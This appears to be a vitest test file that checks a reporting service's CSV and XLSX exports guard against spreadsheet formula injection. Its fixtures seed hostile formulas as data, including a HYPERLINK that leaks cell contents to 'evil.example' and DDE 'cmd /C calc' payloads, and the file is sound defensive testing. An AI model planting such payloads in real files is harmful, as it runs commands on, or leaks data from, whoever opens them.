import type { ReportFormat, ReportLevel, TReport } from '@service-hub/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import XLSX from 'xlsx';
import { createTestApp, type TestContext } from '../../../test/helpers.ts';
import { reportsClient } from '../../../test/reports.ts';
import { insertTrackingFile } from '../../../test/tracking-fixtures.ts';
import { defuseFormula, defuseFormulaSql } from '../../lib/csv.ts';
import { MARKET_TIME_ZONES } from '../../lib/business-days.ts';
import { reportQuery } from './report-columns.ts';

/**
 * CSV injection (OWASP): a cell starting with =, +, -, @, tab or carriage return is a formula to a
 * spreadsheet. Reports copy file names, recipients, invoice numbers … straight from PostgreSQL, so
 * PostgreSQL puts an apostrophe before every such stored text, in CSV and XLSX, at both levels.
 */

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
const DAY = day(-1);
const ARRIVED = `${DAY}T12:00:00Z`;

/** A value in every stored text column a report writes, each starting with one of the six. */
const FORMULA_FILE = {
  filename: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  application: "=cmd|' /C calc'!A0",
  category: "-2+3+cmd|' /C calc'!A0",
  deliveryMode: '\t=1+1',
  itemReference: '\r=1+1',
  sender: '+46 70 123 45 67',
  receiver: '@SUM(1+1)*cmd|" /C calc"!A0',
  countryCode: '=1',
};
const FORMULA_DOCUMENT = {
  externalDocumentId: '=1+2',
  invoiceNumber: '-1000',
  messageId: '@A1',
  messageType: '+INVOICE',
  eAddress: '\tmallory@example.com',
  recipient: '\rMallory',
};
/** Ordinary text, some with the six characters further in: left as it is. */
const ORDINARY_FILE = {
  filename: 'invoices 2026-11.xml',
  application: 'Invoice',
  category: 'a=b',
  deliveryMode: ' =1',
  itemReference: "'quoted",
  sender: "O'Brien AB",
  receiver: 'Åsa Öberg, Storgatan 1',
  countryCode: 'SE',
};
const ORDINARY_DOCUMENT = {
  externalDocumentId: 'DOC-1',
  invoiceNumber: 'INV-100-2',
  messageId: 'MSG+1',
  messageType: 'INVOICE',
  eAddress: 'ulla@example.com',
  recipient: 'Ulla Sand',
};
/** Numbers, negative ones too, are numbers: never an apostrophe. */
const NUMBERS = { envelopes: -1, sheets: 0, inserts: 2, quantity: -3 };

type Cell = string | number | null;
type Row = Record<string, Cell>;

/** RFC 4180 as the report writes it: CRLF between records, quoted cells may hold CR and LF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  expect(quoted).toBe(false);
  expect(cell).toBe('');
  return rows;
}

describe('[REPORTS] formula injection: text a spreadsheet would run is written as text', () => {
  let ctx: TestContext;
  let files: { formula: number; ordinary: number };
  let documents: { formula: number; ordinary: number };
  let zone: string;
  const downloads = new Map<string, Buffer>();
  const key = (level: ReportLevel, format: ReportFormat) => `${level} ${format}`;
  const columnsOf = (level: ReportLevel) =>
    reportQuery({ level, customerId: 1, from: DAY, to: DAY, market: 'SE', language: 'en-SE' }).columns;

  beforeAll(async () => {
    ctx = await createTestApp();
    const customerId = await ctx.customerId('Mälardalens Vatten AB');
    const { rows } = await ctx.db.$client.query<{ market: keyof typeof MARKET_TIME_ZONES }>(
      'SELECT market FROM customers WHERE id = $1',
      [customerId],
    );
    zone = MARKET_TIME_ZONES[rows[0]!.market];
    const seed = async (file: typeof FORMULA_FILE, document: typeof FORMULA_DOCUMENT) => {
      const inserted = await insertTrackingFile(ctx.db, {
        customerId,
        filename: file.filename,
        arrivedAt: ARRIVED,
        senderName: file.sender,
        receiverName: file.receiver,
        documents: [
          {
            externalDocumentId: document.externalDocumentId,
            invoiceNumber: document.invoiceNumber,
            messageId: document.messageId,
            eAddress: document.eAddress,
            recipientName: document.recipient,
          },
        ],
      });
      await ctx.db.$client.query(
        `UPDATE tracking_files SET application = $2, category = $3, delivery_mode = $4, item_reference = $5,
                country_code = $6, envelopes = $7, sheets = $8, inserts = $9, quantity = $10 WHERE id = $1`,
        [
          inserted.fileId,
          file.application,
          file.category,
          file.deliveryMode,
          file.itemReference,
          file.countryCode,
          NUMBERS.envelopes,
          NUMBERS.sheets,
          NUMBERS.inserts,
          NUMBERS.quantity,
        ],
      );
      await ctx.db.$client.query('UPDATE tracking_documents SET message_type = $2 WHERE id = $1', [
        inserted.documentIds[0],
        document.messageType,
      ]);
      return { fileId: inserted.fileId, documentId: inserted.documentIds[0]! };
    };
    const formula = await seed(FORMULA_FILE, FORMULA_DOCUMENT);
    const ordinary = await seed(ORDINARY_FILE, ORDINARY_DOCUMENT);
    files = { formula: formula.fileId, ordinary: ordinary.fileId };
    documents = { formula: formula.documentId, ordinary: ordinary.documentId };

    // Ordered, generated and downloaded as a user does, every level in every format.
    const user = reportsClient(ctx.app, await ctx.tokenFor('user@example.com'), customerId);
    for (const level of ['file', 'document'] as const) {
      for (const format of ['CSV', 'XLSX'] as const) {
        const ordered = await user.request({ level, from: DAY, to: DAY, format, language: 'en-SE' });
        expect(ordered.statusCode).toBe(202);
        const report = await user.settled(ordered.json<TReport>().id);
        expect(report.status).toBe('ready');
        const download = await user.download(report.id);
        expect(download.statusCode).toBe(200);
        downloads.set(key(level, format), download.rawPayload);
      }
    }
  });
  afterAll(() => ctx.close());

  /** What each row must hold, by column key; numbers as the format writes them. */
  const expectedRows = (level: ReportLevel, format: ReportFormat) => {
    const number = (n: number) => (format === 'CSV' ? String(n) : n);
    const arrived = new Intl.DateTimeFormat('sv-SE', {
      timeZone: zone,
      dateStyle: 'short',
      timeStyle: 'medium',
    }).format(new Date(ARRIVED));
    const row = (
      ids: { fileId: number; documentId: number },
      file: typeof FORMULA_FILE,
      document: typeof FORMULA_DOCUMENT,
      text: (value: string) => string,
    ): Row =>
      level === 'file'
        ? {
            fileId: number(ids.fileId),
            filename: text(file.filename),
            status: 'Delivered',
            arrived,
            application: text(file.application),
            category: text(file.category),
            documents: number(1),
            envelopes: number(NUMBERS.envelopes),
            sheets: number(NUMBERS.sheets),
            inserts: number(NUMBERS.inserts),
            deliveryMode: text(file.deliveryMode),
            quantity: number(NUMBERS.quantity),
            itemReference: text(file.itemReference),
            sender: text(file.sender),
            receiver: text(file.receiver),
            countryCode: text(file.countryCode),
          }
        : {
            documentId: number(ids.documentId),
            externalDocumentId: text(document.externalDocumentId),
            invoiceNumber: text(document.invoiceNumber),
            messageId: text(document.messageId),
            messageType: text(document.messageType),
            eAddress: text(document.eAddress),
            recipient: text(document.recipient),
            status: 'Delivered',
            created: arrived,
            fileId: number(ids.fileId),
            filename: text(file.filename),
          };
    return {
      formula: row(
        { fileId: files.formula, documentId: documents.formula },
        FORMULA_FILE,
        FORMULA_DOCUMENT,
        (value) => `'${value}`,
      ),
      ordinary: row(
        { fileId: files.ordinary, documentId: documents.ordinary },
        ORDINARY_FILE,
        ORDINARY_DOCUMENT,
        (value) => value,
      ),
    };
  };

  /** The downloaded file's rows by column key, read as plainly as possible. */
  const rowsOf = (level: ReportLevel, format: ReportFormat): Row[] => {
    const bytes = downloads.get(key(level, format))!;
    let table: Cell[][];
    if (format === 'CSV') {
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      table = parseCsv(bytes.subarray(3).toString('utf8'));
    } else {
      const sheet = XLSX.read(bytes, { type: 'buffer' }).Sheets.Report!;
      table = XLSX.utils.sheet_to_json<Cell[]>(sheet, { header: 1, raw: true, defval: null });
    }
    const columns = columnsOf(level);
    expect(table[0]).toEqual(columns.map((c) => c.header['en-SE']));
    return table
      .slice(1)
      .map((cells) => Object.fromEntries(columns.map((c, i) => [c.key, cells[i] ?? null])));
  };

  const idKey = (level: ReportLevel) => (level === 'file' ? 'fileId' : 'documentId');
  const cases = [
    ['file', 'CSV'],
    ['document', 'CSV'],
    ['file', 'XLSX'],
    ['document', 'XLSX'],
  ] as const;

  it.each(cases)(
    'a %s-level %s report puts an apostrophe before every stored text starting with =, +, -, @, tab or CR, and leaves ordinary text and numbers as they are',
    (level, format) => {
      const expected = expectedRows(level, format);
      const rows = rowsOf(level, format);
      const id = idKey(level);
      const formulaRow = rows.find((r) => String(r[id]) === String(expected.formula[id]));
      const ordinaryRow = rows.find((r) => String(r[id]) === String(expected.ordinary[id]));
      expect(formulaRow).toEqual(expected.formula);
      expect(ordinaryRow).toEqual(expected.ordinary);
      // Every text column the report writes was seeded with a formula, and all six starts are there.
      const textKeys = columnsOf(level)
        .filter((c) => c.type === 'text' && !['status', 'arrived', 'created'].includes(c.key))
        .map((c) => c.key);
      for (const textKey of textKeys) expect(formulaRow![textKey]).toMatch(/^'[=+\-@\t\r]/);
      expect(new Set(textKeys.map((k) => (formulaRow![k] as string)[1]))).toEqual(
        new Set(['=', '+', '-', '@', '\t', '\r']),
      );
      // The rest of the report (the seeded demo rows) has no formula either.
      for (const row of rows)
        for (const textKey of textKeys) expect(String(row[textKey] ?? '')).not.toMatch(/^[=+\-@\t\r]/);
    },
  );

  it.each(cases)(
    'a %s-level %s report opened in a spreadsheet library (SheetJS) has no formula cell, and the values are text',
    (level, format) => {
      // The library does read an unguarded CSV cell as a formula: the check below can fail.
      const control = XLSX.read('=1+2,"=HYPERLINK(""x"")"\r\n', { type: 'string' }).Sheets.Sheet1!;
      expect(control.A1).toMatchObject({ f: '1+2' });
      expect(control.B1).toMatchObject({ f: 'HYPERLINK("x")' });

      const bytes = downloads.get(key(level, format))!;
      const workbook = XLSX.read(bytes, { type: 'buffer', cellFormula: true });
      const sheet = workbook.Sheets[workbook.SheetNames[0]!]!;
      const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!')) as [
        string,
        XLSX.CellObject,
      ][];
      expect(cells.length).toBeGreaterThan(20);
      expect(cells.filter(([, cell]) => cell.f !== undefined).map(([address]) => address)).toEqual([]);

      const expected = expectedRows(level, 'XLSX').formula;
      const columns = columnsOf(level);
      const idColumn = columns.findIndex((c) => c.key === idKey(level));
      const range = XLSX.utils.decode_range(sheet['!ref']!);
      let found = 0;
      for (let r = 1; r <= range.e.r; r++) {
        const idCell = sheet[XLSX.utils.encode_cell({ r, c: idColumn })] as XLSX.CellObject;
        if (idCell.v !== expected[idKey(level)]) continue;
        found += 1;
        expect(idCell.t).toBe('n');
        columns.forEach((column, c) => {
          const cell = sheet[XLSX.utils.encode_cell({ r, c })] as XLSX.CellObject;
          if (column.type === 'number') {
            expect(cell).toMatchObject({ t: 'n', v: expected[column.key] });
          } else if (
            typeof expected[column.key] === 'string' &&
            (expected[column.key] as string).startsWith("'")
          ) {
            expect(cell).toMatchObject({ t: 's', v: expected[column.key] });
          }
        });
      }
      expect(found).toBe(1);

      if (format === 'XLSX') {
        // In the file itself: no formula element, and text as string cells (exceljs's streaming
        // writer writes `t="str"` with the value in <v>, which spreadsheets load as text).
        const zip = XLSX.CFB.read(bytes, { type: 'buffer' });
        const xml = Buffer.from(
          XLSX.CFB.find(zip, '/xl/worksheets/sheet1.xml')!.content as Uint8Array,
        ).toString('utf8');
        expect(xml).not.toMatch(/<f[\s>/]/);
        const types = new Set([...xml.matchAll(/<c [^>]*\bt="([^"]+)"/g)].map((m) => m[1]));
        expect([...types].every((t) => ['str', 's', 'inlineStr'].includes(t!))).toBe(true);
      }
    },
  );

  it('follows in SQL exactly the rule of lib/csv.ts, for every character', async () => {
    const { rows } = await ctx.db.$client.query<{ code: number }>(
      `SELECT code FROM generate_series(1, 65535) code
        WHERE code NOT BETWEEN 55296 AND 57343
          AND ${defuseFormulaSql(`chr(code) || 'x'`)} IS DISTINCT FROM chr(code) || 'x'
        ORDER BY code`,
    );
    const inJs = Array.from({ length: 65535 }, (_, i) => i + 1).filter(
      (code) =>
        (code < 55296 || code > 57343) &&
        defuseFormula(`${String.fromCharCode(code)}x`) !== `${String.fromCharCode(code)}x`,
    );
    expect(rows.map((r) => r.code)).toEqual(inJs);
    expect(inJs).toEqual([9, 13, 43, 45, 61, 64]);
    const edge = await ctx.db.$client.query<{ empty: string; none: string | null; one: string }>(
      `SELECT ${defuseFormulaSql(`''`)} AS empty, ${defuseFormulaSql('NULL::text')} AS none,
              ${defuseFormulaSql(`'=1'`)} AS one`,
    );
    expect(edge.rows[0]).toEqual({ empty: '', none: null, one: "'=1" });
  });
});
